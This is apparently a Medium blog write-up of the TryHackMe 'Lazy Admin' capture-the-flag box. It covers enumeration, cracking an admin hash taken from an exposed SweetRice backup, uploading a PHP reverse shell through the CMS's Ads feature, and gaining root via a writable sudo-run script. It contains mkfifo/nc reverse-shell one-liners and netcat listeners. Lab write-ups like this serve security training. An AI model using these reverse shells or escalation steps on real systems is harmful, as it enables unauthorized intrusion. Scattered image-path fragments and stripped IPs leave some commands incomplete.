Tryhackme — Lazy Admin

Description: Easy Linux machine to practice your skills.

Just going through the original challenges I did when I started THM and each one bringing with it, it’s own memories of “call this easy!!!” and “I’ll never get the hang of this!!”

Either way, they did get easier and I did get the hang of them. So let’s make a start by enumerating as usual:


~ ping -c 4 $IP
PING ( 56(84) bytes of data.
64 bytes from icmp_seq=1 ttl=63 time=17.0 ms
64 bytes from icmp_seq=2 ttl=63 time=16.9 ms
64 bytes from icmp_seq=3 ttl=63 time=16.9 ms
64 bytes from icmp_seq=4 ttl=63 time=16.7 ms
--- ping statistics ---
4 packets transmitted, 4 received, 0% packet loss, time 3005ms
rtt min/avg/max/mdev = 16.659/16.881/17.013/0.133 ms


~ nmap -sV -sC -A $IP
Starting Nmap 7.92 ( ) at 2022-09-12 10:52 BST
Nmap scan report for
Host is up (0.018s latency).
Not shown: 998 closed tcp ports (conn-refused)
22/tcp open ssh OpenSSH 7.2p2 Ubuntu 4ubuntu2.8 (Ubuntu Linux; protocol 2.0)
| ssh-hostkey:| 2048 49:7c:f7:41:10:43:73:da:2c:e6:38:95:86:f8:e0:f0 (RSA)
| 256 2f:d7:c4:4c:e8:1b:5a:90:44:df:c0:63:8c:72:ae:55 (ECDSA)
|_ 256 61:84:62:27:c6:c3:29:17:dd:27:45:9e:29:cb:90:5e (ED25519)
80/tcp open http Apache httpd 2.4.18 ((Ubuntu))
|_http-title: Apache2 Ubuntu Default Page: It works
|_http-server-header: Apache/2.4.18 (Ubuntu)
Service Info: OS: Linux; CPE: cpe:/o:linux:linux_kernel
Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 7.67 seconds


~ gobuster dir -u http://$IP -w /usr/share/wordlists/dirb/common.txt
Gobuster v3.1.0
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)
[+] Url:
[+] Method: GET
[+] Threads: 10
[+] Wordlist: /usr/share/wordlists/dirb/common.txt
[+] Negative Status codes: 404[+] User Agent: gobuster/3.1.0
[+] Timeout: 10s
2022/09/12 10:56:18 Starting gobuster in directory enumeration mode
/.htpasswd (Status: 403) [Size: 277]
/.hta (Status: 403) [Size: 277]
/.htaccess (Status: 403) [Size: 277]
/content (Status: 301) [Size: 314] [-->]
/index.html (Status: 200) [Size: 11321]
/server-status (Status: 403) [Size: 277]

2022/09/12 10:56:28 Finished


So the website we have on port 80, appears to be the default Apache2 Ubuntu default page:

However with the gobuster checkindicating that a content folder exists, we can look at that:

gobuster 2 — the sequel

With the contents folder found, we can check for additional SweetRice directories.

~ gobuster dir -u http://$IP/content -w /usr/share/wordlists/dirb/common.txt
Gobuster v3.1.0
by OJ Reeves (@TheColonial) & Christian Mehlmauer (@firefart)
[+] Url:
[+] Method: GET
[+] Threads: 10
[+] Wordlist:/usr/share/wordlists/dirb/common.txt
[+] Negative Status codes: 404
[+] User Agent: gobuster/3.1.0
[+] Timeout:10s
2022/09/12 11:00:56 Starting gobuster in directory enumeration mode
/.hta (Status: 403) [Size: 277]
/.htaccess (Status: 403) [Size: 277]
/.htpasswd (Status: 403) [Size: 277]
/_themes (Status: 301) [Size: 322] [-->]
/as (Status: 301) [Size: 317] [-->]
/attachment (Status: 301) [Size: 325] [-->]
/images (Status: 301) [Size: 321] [-->]
/inc (Status: 301) [Size: 318] [-->]
/index.php (Status: 200) [Size: 2198]
/js (Status: 301) [Size: 317] [-->]

2022/09/12 11:01:04 Finished

This provides us with some additional threads we can investigate. Firstly we can check as which gives us a login screen.

Next as part of the continued enumeration we check inc whichgives a list of files:

One that stands out is the backup folder:

We download that and a quick search provides us with a username and hashed password:

cat mysql_bakup_20191129023059-1.5.1.sql | grep passw
14 => 'INSERT INTO `%--%_options` VALUES(\'1\',\'global_setting\',\'a:17:{s:4:\\"name\\";s:25:\\"Lazy Admin's Website\\";s:6:\\"author\\";s:10:\\"Lazy Admin\\";s:5:\\"title\\";s:0:\\"\\";s:8:\\"keywords\\";s:8:\\"Keywords\\";s:11:\\"description\\";s:11:\\"Description\\";s:5:\\"admin\\";s:7:\\"m******r\\";s:6:\\"passwd\\";s:32:\\"42f74************f475f37a44cafcb\\";s:5:\\"close\\";i:1;s:9:\\"close_tip\\";s:454:\\"<p>Welcome to SweetRice - Thank your for install SweetRice as your website management system.</p><h1>This site is building now , please come late.</h1><p>If you are the webmaster,please go to Dashboard -> General -> Website setting </p><p>and uncheck the checkbox \\"Site close\\" to open your website.</p><p>More help at <a href=\\"\\">Tip for Basic CMS SweetRiceinstalled</a></p>\\";s:5:\\"cache\\";i:0;s:13:\\"cache_expired\\";i:0;s:10:\\"user_track\\";i:0;s:11:\\"url_rewrite\\";i:0;s:4:\\"logo\\";s:0:\\"\\";s:5:\\"theme\\";s:0:\\"\\";s:4:\\"lang\\";s:9:\\"en-us.php\\";s:11:\\"admin_email\\";N;}\',\'1575023409\');',Checking the hash and putting it quickly through we get the password.

Using the credentials we gain access to the SweetRice admin panel. Luckily it provides us with the current version: 1.5.1, so a quick search on searchsploit provides us with the following:

~ searchsploitsweetrice
--- ---
Exploit Title | Path
--- ---
SweetRice 0.5.3 - Remote File Inclusion | php/webapps/10246.txt
SweetRice 0.6.7 - Multiple Vulnerabilities | php/webapps/15413.txt
SweetRice 1.5.1 - Arbitrary File Download | php/webapps/
SweetRice 1.5.1 - Arbitrary File Upload | php/webapps/
SweetRice 1.5.1 - Backup Disclosure | php/webapps/40718.txt
SweetRice 1.5.1 - Cross-Site Request Forgery | php/webapps/40692.html
SweetRice 1.5.1 - Cross-Site Request Forgery / PHP Code Execution | php/webapps/40700.html
SweetRice < 0.6.4 - 'FCKeditor' Arbitrary File Upload | php/webapps/14184.txt
--- ---
Shellcodes: No Results

So, from this we can actually see that backup disclosure, is where we got the initial username and password from. Another, the 40700 PHP code execution looks as though it could give us a reverse shell. Checking it out, we find:

~ searchsploit -x php/webapps/40700.html
# Description :
# In SweetRice CMS Panel In Adding Ads Section SweetRice Allow To Admin Add
PHP Codes In Ads File
# A CSRF Vulnerabilty In Adding Ads Section Allow To Attacker To Execute
PHP Codes On Server

So clicking on Ads gives us the opportunity to add a php reverse shell.

Using the pentestmonkeys php-reverse-shell.php and amending the file accordingly for our attacker box, we get:

set_time_limit (0);$VERSION = "1.0";
$ip = ''; // CHANGE THIS
$port = 4444; // CHANGE THIS
$chunk_size = 1400;
$write_a = null;

Now giving the add a name and finalising it with a click on done

Remembering our second gobuster scan, we found the folder ads and if we visit it, we can see our click_me.php file. Now before we exploit it, a quick netcat session with the port we selected — 4444.

nc -nlvp 4444
Ncat: Version 7.92 ( )
Ncat: Listening on :::4444
Ncat: Listening on

And a quick curl command should start the reverse shell.There we have it — the initial foothold on the machine.

nc -nlvp 4444
Ncat: Version 7.92 ( )
Ncat: Listening on :::4444
Ncat: Listening on
Ncat: Connection from
Ncat: Connection from
Linux THM-Chal 4.15.0-70-generic #79~16.04.1-Ubuntu SMP Tue Nov 12 11:54:29 UTC 2019 i686 i686 i686 GNU/Linux
13:35:35 up 52 min, 0 users, load average: 0.00, 0.00, 0.00
uid=33(www-data) gid=33(www-data) groups=33(www-data)
/bin/sh: 0: can't access tty; job control turned off

Making the shell interactive:

python -c ‘import pty;pty.spawn(“/bin/bash”)’ # then press Ctrl+Z
stty raw -echo;fg # then press ENTER twice
export TERM=xterm

Let’s find out who is on the machine, with a quick check of thehome folder:

Further checks then provide us with the user flag.

Next then, what can we actually do as the user www-data. A quick sudo -l gives us:

www-data@THM-Chal:/$ sudo -l
Matching Defaults entries for www-data on THM-Chal:
env_reset, mail_badpass,
User www-data may run the following commands on THM-Chal:
(ALL) NOPASSWD: /usr/bin/perl /home/itguy/

Checking out the file, we see from the ls -l that we did earlier, that we can read and execute but not write. However, it runs a further script

-rw-r--r-x 1 root  root    47 Nov 29  2019 backup.plwww-data@THM-Chal:/$ cat /home/itguy/
system("sh", "/etc/");

So now checking that file, it actually contains a bash reverse shell! From this all we need to do is amend the file with our attacker box and we are in on a root shell.

www-data@THM-Chal:/$ ls -l /etc/
-rw-r--rwx 1 root root 81 Nov 29 2019 /etc/
www-data@THM-Chal:/$ cat /etc/
rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 5554 >/tmp/f

In this case I used echo to get thedata across. Then set up a port 5555 netcat session and ran the file with my sudo credentials.

www-data@THM-Chal:/$ echo "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 5555 >/tmp/f" > /etc/copy.shwww-data@THM-Chal:/$ sudo /usr/bin/perl /home/itguy/ -nlvp 5555
Ncat: Version 7.92 ( )
Ncat: Listening on :::5555
Ncat: Listening on
Ncat: Connection from
Ncat: Connection from
# id
uid=0(root) gid=0(root) groups=0(root)
# cat /root/root.txt

A great little box, that I thoroughly enjoyed, but when I first started? Not so much. See how things change!!



Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it will lead you to the GooglePlay store
James Pearson

James Pearson


20 + years in an IT environment, working for companies such as Synstar, HP, DXC and Capgemini in a number of differentservice areas. Now a cyber CTF addict.